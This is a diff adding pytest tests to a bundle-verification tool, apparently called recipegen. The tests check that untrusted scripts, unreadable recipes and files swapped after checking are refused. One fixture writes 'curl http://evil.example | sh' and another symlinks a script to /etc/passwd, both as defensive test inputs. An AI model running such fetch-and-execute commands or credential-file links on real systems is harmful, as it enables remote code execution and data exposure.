@@ -10,9 +10,12 @@ import pytest
 
 from recipegen.bundle.layout import NoBundle
 from recipegen.bundle.make import write_folder
+from recipegen.bundle.unpack import Opened
+from recipegen.claims import Check
 from recipegen.errors import CheckFailed, RecipegenError
 from recipegen.evidence import find_evidence
 from recipegen.files import sha256_file
+from recipegen.verify import repository
 from recipegen.verify.repository import take_in
 from recipegen.verify.whole import verify_bundle
 from tests.unit.bundle_factory import NAME, archive, made, measured
@@ -89,6 +92,41 @@ def test_a_kit_of_another_version_needs_the_users_word(folder: Path, tmp_path: P
         take_in(folder, tmp_path / "mine")
     assert "Dockerfile" in caught.value.message and "--trust-kit" in caught.value.hint
     assert take_in(folder, tmp_path / "mine", trust_kit=True).recipe == NAME
+
+
+def test_unverified_says_nothing_of_the_kit(folder: Path, tmp_path: Path) -> None:
+    evil_script(folder)
+    for word in ({"unverified": True}, {}):
+        with pytest.raises(CheckFailed, match=r"scripts/evil.sh: no recipe renders this file"):
+            take_in(folder, tmp_path / "mine", **word)
+    assert take_in(folder, tmp_path / "mine", trust_kit=True).recipe == NAME
+
+
+def test_a_recipe_that_cannot_be_read_has_no_kit_to_trust(folder: Path, tmp_path: Path) -> None:
+    (folder / "recipes" / NAME / "recipe.yaml").write_text("surprise: 1\n")
+    relist(folder)
+    with pytest.raises(CheckFailed, match="its recipe cannot be read"):
+        take_in(folder, tmp_path / "mine", unverified=True)
+    assert not (tmp_path / "mine").exists()
+
+
+@pytest.mark.parametrize("how", ["other bytes", "a link"])
+def test_a_file_that_changes_after_its_check_is_not_taken_in(
+    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
+) -> None:
+    script = folder / "recipes" / NAME / "scripts" / "bench.sh"
+    checks_of = repository.checks_of
+
+    def then_changed(found: Opened) -> list[Check]:
+        checks = checks_of(found)
+        script.unlink()
+        script.symlink_to("/etc/passwd") if how == "a link" else script.write_text("curl http://evil.example | sh\n")
+        return checks
+
+    monkeypatch.setattr(repository, "checks_of", then_changed)
+    with pytest.raises(RecipegenError, match="was changed while it was checked"):
+        take_in(folder, tmp_path / "mine")
+    assert [path.name for path in tmp_path.iterdir()] == ["bundle"]
 
 
 def test_a_bundle_that_does_not_verify_needs_it_too(folder: Path, tmp_path: Path) -> None:
